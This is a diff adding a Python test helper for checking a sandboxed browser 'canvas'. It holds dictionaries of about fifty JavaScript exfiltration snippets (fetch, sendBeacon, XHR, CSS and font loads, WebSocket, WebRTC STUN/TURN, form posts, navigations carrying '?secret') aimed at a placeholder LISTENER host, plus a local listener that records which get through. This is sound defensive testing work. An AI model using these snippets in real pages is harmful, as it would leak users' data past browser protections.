@@ -1,0 +1,156 @@
+"""Ways out of a page: what a hostile canvas would do to send something to somebody who listens on another port of this machine.
+
+Each way names itself in what it asks for, so that a listener knows who got through. The same ways, on a page that nobody
+holds in, do get through: that is how a test knows that they are ways at all.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import re
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from collections.abc import AsyncIterator
+
+_ASKED = re.compile(rb"^[A-Z]+ /(?:way-)?([\w-]+)")
+
+# In one page, all at once. LISTENER is the other port's address without a scheme, TALK its UDP port.
+QUIET: dict[str, str] = {
+    "fetch": "fetch('http://LISTENER/way-fetch', {mode: 'no-cors'})",
+    "fetch-keepalive": "fetch('http://LISTENER/way-fetch-keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret'})",
+    "xhr": "{ const x = new XMLHttpRequest(); x.open('POST', 'http://LISTENER/way-xhr'); x.send('secret') }",
+    "beacon": "navigator.sendBeacon('http://LISTENER/way-beacon', 'secret')",
+    "img": "new Image().src = 'http://LISTENER/way-img'",
+    "css": "add('style', {textContent: 'body { background: url(http://LISTENER/way-css) }'})",
+    "css-import": "add('style', {textContent: '@import \"http://LISTENER/way-css-import\"'})",
+    "font": "add('style', {textContent: '@font-face { font-family: f; src: url(http://LISTENER/way-font) } body { font-family: f }'}), add('p', {textContent: 'x'})",
+    "stylesheet": "add('link', {rel: 'stylesheet', href: 'http://LISTENER/way-stylesheet'})",
+    "video": "add('video', {src: 'http://LISTENER/way-video', preload: 'auto'})",
+    "audio": "add('audio', {src: 'http://LISTENER/way-audio', preload: 'auto'})",
+    "object": "add('object', {data: 'http://LISTENER/way-object'})",
+    "embed": "add('embed', {src: 'http://LISTENER/way-embed'})",
+    "iframe": "add('iframe', {src: 'http://LISTENER/way-iframe'})",
+    "srcdoc": "add('iframe', {srcdoc: '<img src=http://LISTENER/way-srcdoc>'})",
+    "script": "add('script', {src: 'http://LISTENER/way-script'})",
+    "module": "add('script', {type: 'module', src: 'http://LISTENER/way-module'})",
+    "import": "import('http://LISTENER/way-import').catch(() => {})",
+    "worker": "new Worker(URL.createObjectURL(new Blob(['importScripts(\"http://LISTENER/way-worker\")'])))",
+    "websocket": "new WebSocket('ws://LISTENER/way-websocket')",
+    "eventsource": "new EventSource('http://LISTENER/way-eventsource')",
+    "prefetch": "add('link', {rel: 'prefetch', href: 'http://LISTENER/way-prefetch'})",
+    "preload": "add('link', {rel: 'preload', as: 'image', href: 'http://LISTENER/way-preload'})",
+    "modulepreload": "add('link', {rel: 'modulepreload', href: 'http://LISTENER/way-modulepreload'})",
+    "icon": "add('link', {rel: 'icon', href: 'http://LISTENER/way-icon'})",
+    "svg-image": "svg('<image href=\"http://LISTENER/way-svg-image\" width=9 height=9 />')",
+    "image-set": "add('div', {style: 'width: 9px; height: 9px; background-image: image-set(\"http://LISTENER/way-image-set\" 1x)'})",
+    "picture": "add('img', {srcset: 'http://LISTENER/way-picture 1x'})",
+    "poster": "add('video', {poster: 'http://LISTENER/way-poster'})",
+    "stun": "rtc('stun:127.0.0.1:TALK')",
+    "turn": "rtc('turn:LISTENER?transport=tcp')",
+    "preconnect": "add('link', {rel: 'preconnect', href: 'http://LISTENER/'})",
+    "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: 'http://LISTENER/'})",
+    "ping": "add('a', {href: '#', ping: 'http://LISTENER/way-ping'}).click()",
+    "speculation": 'add(\'script\', {type: \'speculationrules\', textContent: \'{"prefetch":[{"source":"list","urls":["http://LISTENER/way-speculation"]}]}\'})',
+}
+# Each in a page of its own, for it goes away by it.
+LEAVING: dict[str, str] = {
+    "location": "location.href = 'http://LISTENER/way-location?secret'",
+    "replace": "location.replace('http://LISTENER/way-replace?secret')",
+    "top": "top.location = 'http://LISTENER/way-top?secret'",
+    "parent": "parent.location = 'http://LISTENER/way-parent?secret'",
+    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0; url=http://LISTENER/way-refresh?secret'})",
+    "form": "submit('GET', '_self')",
+    "form-post": "submit('POST', '_self')",
+    "form-top": "submit('POST', '_top')",
+    "form-blank": "submit('POST', '_blank')",
+    "open": "window.open('http://LISTENER/way-open?secret')",
+    "link": "add('a', {href: 'http://LISTENER/way-link?secret', textContent: 'x'}).click()",
+    "link-blank": "add('a', {href: 'http://LISTENER/way-link-blank', target: '_blank', textContent: 'x'}).click()",
+    "link-top": "add('a', {href: 'http://LISTENER/way-link-top', target: '_top', textContent: 'x'}).click()",
+    "download": "add('a', {href: 'http://LISTENER/way-download', download: 'x', textContent: 'x'}).click()",
+    "document-open": "window.open('http://LISTENER/way-document-open', '_self')",
+}
+
+_TOOLS = """
+const add = (tag, more) => { const made = document.createElement(tag); Object.assign(made, more);
+  for (const [name, value] of Object.entries(more)) if (name === 'ping' || name === 'as') made.setAttribute(name, value);
+  document.body.append(made); return made };
+const svg = (inner) => document.body.insertAdjacentHTML('beforeend', `<svg width=20 height=20>${inner}</svg>`);
+const submit = (method, target) => { const form = add('form', {method, target, action: 'http://LISTENER/way-form?secret'}); add('input', {name: 'secret', value: 'x'}); form.submit() };
+const rtc = (urls) => { const peer = new RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'c'}]}); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); (window.peers ??= []).push(peer) };
+"""
+
+
+def script(ways: dict[str, str], listener: Listener) -> str:
+    """All of them, none of which stops the others; says when it has tried everything."""
+    lines = "\n".join(f"try {{ {way} }} catch (problem) {{ tried.push('{name}: ' + problem.name) }}" for name, way in ways.items())
+    text = f"{_TOOLS}\nwindow.tried = [];\n{lines}\nwindow.hasTried = true;"
+    return text.replace("LISTENER", listener.address).replace("TALK", str(listener.talk_port))
+
+
+class Listener:
+    """Somebody on another port of this machine, who notes whatever reaches it."""
+
+    def __init__(self) -> None:
+        self.heard: list[str] = []
+        self.address = ""
+        self.talk_port = 0
+
+    def ways(self) -> set[str]:
+        return set(self.heard)
+
+    async def _take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        place = len(self.heard)
+        self.heard.append("preconnect")  # a connection is news already
+        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+            said = await reader.read(2000)
+            found = _ASKED.match(said)
+            self.heard[place] = found[1].decode() if found else "turn" if said else "preconnect"
+            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\naccess-control-allow-origin: *\r\nconnection: close\r\n\r\n")
+            await writer.drain()
+        writer.close()
+
+
+class _Talk(asyncio.DatagramProtocol):
+    def __init__(self, listener: Listener) -> None:
+        self._listener = listener
+
+    def datagram_received(self, data: bytes, addr: object) -> None:
+        self._listener.heard.append("stun")
+
+
+@contextlib.asynccontextmanager
+async def listening() -> AsyncIterator[Listener]:
+    listener = Listener()
+    server = await asyncio.start_server(listener._take, "127.0.0.1", 0)
+    listener.address = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
+    talk, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: _Talk(listener), local_addr=("127.0.0.1", 0))
+    listener.talk_port = talk.get_extra_info("sockname")[1]
+    try:
+        yield listener
+    finally:
+        server.close()
+        talk.close()
+
+
+@contextlib.asynccontextmanager
+async def unprotected(html: str) -> AsyncIterator[str]:
+    """The same page from a server that says nothing about what it may do; its address."""
+
+    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+            await reader.readuntil(b"\r\n\r\n")
+            body = html.encode()
+            writer.write(
+                b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body)
+            )
+            await writer.drain()
+        writer.close()
+
+    server = await asyncio.start_server(answer, "127.0.0.1", 0)
+    try:
+        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/"
+    finally:
+        server.close()
